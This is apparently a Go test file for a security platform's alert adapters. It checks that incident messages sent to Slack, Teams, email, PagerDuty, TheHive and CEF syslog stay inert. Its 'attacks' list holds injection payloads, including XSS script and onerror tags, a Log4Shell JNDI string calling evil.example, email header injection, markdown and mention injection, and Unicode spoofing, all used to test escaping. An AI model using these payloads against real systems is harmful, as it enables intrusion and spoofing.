package adapter_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	syslogs "github.com/leodido/go-syslog/v4"
	"github.com/leodido/go-syslog/v4/octetcounting"

	"github.com/tocsin-siem/tocsin/ingest/format/cef"
	"github.com/tocsin-siem/tocsin/triage/adapter"
)

var update = flag.Bool("update", false, "write the goldens anew")

func options() adapter.Options {
	return adapter.Options{Endpoint: "soc", Token: "t0ken", Host: "plant-1", Version: "1.2.3", Console: "https://console.example"}
}

// letter is a letter about an incident, of which edit may change anything.
func letter(kind string, edit func(*adapter.Letter)) *adapter.Letter {
	l := &adapter.Letter{Envelope: adapter.Envelope{
		SpecVersion: "1.0", ID: "dlv_aaaaaaaaaaaaaaaaaaaaaaaaaa", Source: "urn:tocsin:plant-1", Type: "incident." + kind, Subject: "inc_bbbbbbbbbbbbbbbbbbbbbbbbbb",
		Time: "2026-11-21T02:14:05.250Z", Timestamp: "2026-11-21T02:14:05.250Z", ContentType: "application/json", Sequence: "0000000001-0000000000000007-000000",
		Data: adapter.Data{
			Incident: &adapter.Incident{
				ID: "inc_bbbbbbbbbbbbbbbbbbbbbbbbbb", Revision: 3, URL: "https://console.example/incidents/inc_bbbbbbbbbbbbbbbbbbbbbbbbbb", Title: "Sign-in from a new country, then a mode change on h1",
				Status: "open", Severity: "high", Priority: 1, Score: 71, OwnerTeam: "robot-operations", OpenedAt: "2026-11-21T02:10:00.000Z", FirstEvent: "2026-11-21T02:01:00.000Z",
				LastEvent: "2026-11-21T02:13:59.000Z", Domains: []string{"identity", "robot"},
				Assessment: adapter.Assessment{Kind: "intrusion", Source: "rules", For: []string{"ana signed in from a country never seen before"}, Against: []string{}},
				Rules:      []adapter.Rule{{ID: "new_country", Name: "Sign-in from a new country", Version: 2, Attack: []string{"T1078"}}},
				Entities:   []adapter.Entity{{Type: "user", ID: "ana", Role: "actor"}, {Type: "device", ID: "lap-7"}, {Type: "address", ID: "198.51.100.7"}, {Type: "robot", ID: "h1", Role: "target"}},
				Counts:     adapter.Counts{Findings: 2, Events: 9, Robots: 1, Users: 1}, Changes: []adapter.Note{{At: "2026-11-21T02:00:00.000Z", What: "mode auto -> manual", Actor: "ana", Event: "ev_c"}},
				Summary: adapter.Summary{Text: "Looks like an intrusion.\nRobot h1 changed its mode.", Source: "deterministic", Refs: []string{"ev_c"}},
				Actions: []adapter.Action{{ID: "lock-account", Text: "IT: lock the account", Authority: "it", People: 1, Precheck: []string{}}},
			},
			Change: &adapter.Change{Fields: []string{"findings"}, Actor: "rule:new_country"}, Truncated: map[string]int{},
		},
	}}
	l.OCSF = func() []byte { return []byte(`{"class_uid":2005}`) }
	l.Detections = func() [][]byte { return [][]byte{[]byte(`{"class_uid":2004}`), []byte(`{"class_uid":2004}`)} }
	if edit != nil {
		edit(l)
	}
	return l
}

// letters are one of each kind that adapters treat differently.
func letters() map[string]*adapter.Letter {
	status := func(s string) func(*adapter.Letter) {
		return func(l *adapter.Letter) { l.Data.Incident.Status = s }
	}
	return map[string]*adapter.Letter{
		"opened":       letter("opened", nil),
		"acknowledged": letter("acknowledged", status("acknowledged")),
		"escalated": letter("escalated", func(l *adapter.Letter) {
			l.Data.Change.Fields = []string{"severity"}
			l.Data.Incident.Severity = "critical"
		}),
		"closed":         letter("closed", func(l *adapter.Letter) { l.Data.Incident.Status, l.Data.Incident.Verdict = "closed", "misuse" }),
		"note_on_closed": letter("updated", status("closed")),
		"test": letter("", func(l *adapter.Letter) {
			l.Type, l.Data, l.Subject = adapter.TypeTest, adapter.Data{Truncated: map[string]int{}}, ""
		}),
		"failing": letter("", func(l *adapter.Letter) {
			l.Type, l.Subject, l.Data = adapter.TypeFailing, "epf_a", adapter.Data{Truncated: map[string]int{}, Endpoint: failingEndpoint(true, "503 Service Unavailable")}
		}),
		"recovered": letter("", func(l *adapter.Letter) {
			l.Type, l.Subject, l.Data = adapter.TypeRecovered, "epf_a", adapter.Data{Truncated: map[string]int{}, Endpoint: failingEndpoint(false, "")}
		}),
		"digest": letter("", func(l *adapter.Letter) {
			l.Type, l.Subject = adapter.TypeDigest, ""
			l.Data = adapter.Data{Truncated: map[string]int{}, Digest: &adapter.Digest{Opened: 31, Severity: "high", Counts: map[string]int{"high": 1, "low": 30}, URL: "https://console.example/incidents", Incidents: []adapter.DigestEntry{
				{ID: "inc_b", Title: "Mode change", Severity: "high", OpenedAt: "2026-11-21T02:10:00.000Z"}, {ID: "inc_c", Title: "Door held open", Severity: "low", OpenedAt: "2026-11-21T02:10:01.000Z"},
			}}}
		}),
	}
}

func failingEndpoint(failing bool, err string) *adapter.Endpoint {
	return &adapter.Endpoint{Notice: "epf_a", Name: "soar", Failing: failing, Since: "2026-11-20T02:10:00.000Z", Failures: 1400, Pending: 12, Error: err, URL: "https://console.example/integrations"}
}

func TestEachFormIsAsItsGolden(t *testing.T) {
	for _, a := range adapter.All() {
		for name, l := range letters() {
			p := a.Write(l, options())
			var b bytes.Buffer
			fmt.Fprintf(&b, "content-type: %s\nkey: %s\nsubject: %s\nheader: %v\n\n", p.ContentType, p.Key, p.Subject, p.Header)
			if json.Valid(p.Body) {
				_ = json.Indent(&b, p.Body, "", "  ")
			} else {
				b.Write(p.Body)
			}
			b.WriteByte('\n')
			golden(t, filepath.Join("testdata", a.Name, name+".golden"), b.Bytes())
		}
	}
}

func golden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got)\n%s", path, diff)
	}
}

// attacks are what somebody may write into a log.
var attacks = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `](https://evil.example) **bold** <https://evil.example|click> @here <!channel>`, "```\n# heading\n````\n~~~",
	"\x1b[31mred\x1b[0m\a\b", "\u009b31m\u0085", "invoice\u202efdp.exe\u2066\u2069", "pay\u200bpal\ufeff", "a\u2028b\u2029c", "first\r\nBcc: all@example.com\r\n\r\nsecond\tthird",
	"be\x00fore\x7f", "bad\xff\xfe\xc0\xafbytes", strings.Repeat("0123456789", 5000), `a|b\|c=d\=e\nf`, "<34>1 2026-01-01T00:00:00Z h a - - - x\n99 <34>1", `","admin":true,"x":"\u0041\`,
	`{{.Incident.ID}} ${jndi:ldap://evil.example/a} %n%s`, "mailto:a@b.example www.evil.example HTTP://EVIL.example",
}

// hostile is a letter with text in every field that a log can reach.
func hostile(kind, text string) *adapter.Letter {
	return letter(kind, func(l *adapter.Letter) {
		in := l.Data.Incident
		for _, field := range []*string{
			&in.Title, &in.OwnerTeam, &in.Assignee, &in.Summary.Text, &in.Entities[0].ID, &in.Entities[1].ID, &in.Entities[2].ID, &in.Entities[3].ID, &in.Rules[0].ID, &in.Rules[0].Name, &in.Rules[0].Attack[0],
			&in.Assessment.For[0], &in.Changes[0].What, &in.Changes[0].Actor, &l.Data.Change.Actor, &in.Actions[0].Text,
		} {
			*field = text
		}
	})
}

func TestHostileTextStaysTextInEveryForm(t *testing.T) {
	for _, a := range adapter.All() {
		for _, text := range attacks {
			p := a.Write(hostile("opened", text), options())
			if !utf8.Valid(p.Body) || !utf8.ValidString(p.Subject) {
				t.Errorf("%s: %.30q: not UTF-8", a.Name, text)
			}
			for _, r := range p.Subject + string(p.Body) {
				if unicode.IsControl(r) && (r != '\n' || a.Way != adapter.Mail) || unicode.Is(unicode.Cf, r) {
					t.Errorf("%s: %.30q: the parcel has a raw %U", a.Name, text, r)
					break
				}
			}
			if strings.ContainsAny(p.Subject, "\r\n") {
				t.Errorf("%s: %.30q: a subject of more than one line", a.Name, text)
			}
			if a.Way == adapter.HTTP && !json.Valid(p.Body) {
				t.Errorf("%s: %.30q: no JSON", a.Name, text)
			}
			if bytes.ContainsAny(p.Body, "<>") && a.Way == adapter.HTTP {
				t.Errorf("%s: %.30q: markup that a page would read", a.Name, text)
			}
		}
	}
}

// texts walks a decoded document and gives every text with its key.
func texts(key string, v any, visit func(key, text string)) {
	switch v := v.(type) {
	case string:
		visit(key, v)
	case []any:
		for _, x := range v {
			texts(key, x, visit)
		}
	case map[string]any:
		for k, x := range v {
			texts(k, x, visit)
		}
	}
}

func TestChatAndMailHaveNoLinkButTheConsoles(t *testing.T) {
	for _, name := range []string{"slack", "teams", "email"} {
		a, _ := adapter.Named(name)
		for _, text := range attacks {
			p := a.Write(hostile("opened", text), options())
			check := func(key, s string) {
				s = strings.ReplaceAll(s, "https://console.example/incidents/inc_bbbbbbbbbbbbbbbbbbbbbbbbbb", "")
				if key != "$schema" && (strings.Contains(s, "://") || strings.Contains(strings.ToLower(s), "www.") || strings.Contains(s, "@here")) {
					t.Errorf("%s: %.30q: %s becomes a link or a mention: %q", name, text, key, s)
				}
			}
			if a.Way == adapter.Mail {
				check("body", string(p.Body))
				check("subject", p.Subject)
				continue
			}
			var doc any
			if err := json.Unmarshal(p.Body, &doc); err != nil {
				t.Fatal(err)
			}
			texts("", doc, check)
		}
	}
}

func TestFormsStayWithinTheirReceiversBounds(t *testing.T) {
	long := strings.Repeat("x", 60_000)
	read := func(name string, into any) {
		a, _ := adapter.Named(name)
		if err := json.Unmarshal(a.Write(hostile("opened", long), options()).Body, into); err != nil {
			t.Fatal(err)
		}
	}
	var pager struct {
		DedupKey string `json:"dedup_key"`
		Payload  struct{ Summary string }
	}
	read("pagerduty", &pager)
	if len(pager.DedupKey) > 255 || utf8.RuneCountInString(pager.Payload.Summary) > 1024 {
		t.Errorf("PagerDuty: a key of %d and a summary of %d", len(pager.DedupKey), len(pager.Payload.Summary))
	}
	var slack struct {
		Blocks []struct {
			Type   string
			Text   struct{ Text string }
			Fields []struct{ Text string }
		}
	}
	read("slack", &slack)
	for _, b := range slack.Blocks {
		n := utf8.RuneCountInString(b.Text.Text)
		if n > 3000 || b.Type == "header" && n > 150 || len(b.Fields) > 10 {
			t.Errorf("Slack: a %s of %d characters and %d fields", b.Type, n, len(b.Fields))
		}
		for _, f := range b.Fields {
			if utf8.RuneCountInString(f.Text) > 2000 {
				t.Errorf("Slack: a field of %d characters", len(f.Text))
			}
		}
	}
	a, _ := adapter.Named("teams")
	if n := len(a.Write(hostile("opened", strings.Repeat("機", 60_000)), options()).Body); n > 28<<10 {
		t.Errorf("Teams: a message of %d bytes", n)
	}
}

func TestTheHiveDescriptionIsOneFence(t *testing.T) {
	a, _ := adapter.Named("thehive")
	for _, text := range attacks {
		var alert struct{ Description string }
		if err := json.Unmarshal(a.Write(hostile("opened", text), options()).Body, &alert); err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(alert.Description, "\n")
		fence := lines[0]
		if strings.Trim(fence, "`") != "" || lines[len(lines)-1] != fence {
			t.Fatalf("%.30q: no fence: %q", text, alert.Description)
		}
		if strings.Contains(strings.Join(lines[1:len(lines)-1], "\n"), fence) {
			t.Errorf("%.30q: the fence can be closed from within", text)
		}
	}
}

func TestTheHiveUpdatesLeaveWhatIdentifiesAnAlert(t *testing.T) {
	var sent map[string]any
	if err := json.Unmarshal(adapter.HiveUpdate(letter("closed", nil)), &sent); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"type", "source", "sourceRef", "date", "observables"} {
		if _, has := sent[key]; has {
			t.Errorf("%s is written over", key)
		}
	}
	if !bytes.Contains(adapter.HiveFind(letter("closed", nil)), []byte(`"inc_bbbbbbbbbbbbbbbbbbbbbbbbbb"`)) {
		t.Error("the query does not ask for the incident")
	}
}

// readCEF reads a message by a syslog reader that is not ours, and the CEF within by the one that reads sources.
func readCEF(t *testing.T, message []byte) cef.Event {
	t.Helper()
	var found []string
	octetcounting.NewParser(syslogs.WithListener(func(r *syslogs.Result) {
		if r.Error != nil {
			t.Fatalf("no syslog: %v", r.Error)
		}
		text := ""
		if m, ok := r.Message.(interface{ Valid() bool }); !ok || !m.Valid() {
			t.Fatal("no valid syslog message")
		}
		if v := reflect.ValueOf(r.Message).Elem().FieldByName("Message"); !v.IsNil() {
			text = v.Elem().String()
		}
		found = append(found, text)
	}), syslogs.WithMaxMessageLength(1<<20)).Parse(bytes.NewReader(adapter.FrameSyslog(message)))
	if len(found) != 1 {
		t.Fatalf("%d messages", len(found))
	}
	e, err := cef.Parse([]byte(found[0]))
	if err != nil {
		t.Fatalf("no CEF: %v in %q", err, found[0])
	}
	return e
}

func TestCEFIsReadBackAsItWasMeant(t *testing.T) {
	a, _ := adapter.Named("cef")
	for _, text := range append(attacks, "plain", "", "a = b", `\`, `\\`, "=", "|", "x=y z=w") {
		e := readCEF(t, a.Write(hostile("opened", text), options()).Body)
		if e.Str("externalId") != "inc_bbbbbbbbbbbbbbbbbbbbbbbbbb" || e.Str("act") != "opened" || e.Str("cn1") != "3" || e.Str("cs1") != "open" {
			t.Errorf("%.30q got into other fields: %v", text, e)
		}
		for key := range e.All() {
			if !strings.Contains(" externalId act cat outcome rt start end cnt suser shost dhost request cs1 cs1Label cs2 cs2Label cs3 cs3Label cs4 cs4Label cn1 cn1Label cn2 cn2Label msg ", " "+key+" ") {
				t.Errorf("%.30q made a field %q", text, key)
			}
		}
	}
	if e := readCEF(t, a.Write(hostile("opened", `a|b\c=d`), options()).Body); e.Header.Name != `a|b\c=d` || e.Str("cs4") != `a|b\c=d` {
		t.Errorf("got %q and %q", e.Header.Name, e.Str("cs4"))
	}
}

func FuzzCEF(f *testing.F) {
	for _, text := range attacks {
		f.Add(text)
	}
	a, _ := adapter.Named("cef")
	f.Fuzz(func(t *testing.T, text string) {
		e := readCEF(t, a.Write(hostile("opened", text), options()).Body)
		if e.Str("externalId") != "inc_bbbbbbbbbbbbbbbbbbbbbbbbbb" || e.Str("cn2") != "2" {
			t.Errorf("%q got into other fields", text)
		}
	})
}

func FuzzForms(f *testing.F) {
	for _, text := range attacks {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, a := range adapter.All() {
			p := a.Write(hostile("closed", text), options())
			if a.Way == adapter.HTTP && !json.Valid(p.Body) || !utf8.Valid(p.Body) || strings.ContainsAny(p.Subject, "\r\n") {
				t.Errorf("%s: %q breaks the form", a.Name, text)
			}
			if !bytes.Equal(p.Body, a.Write(hostile("closed", text), options()).Body) {
				t.Errorf("%s: the same letter gave two bodies", a.Name)
			}
		}
	})
}
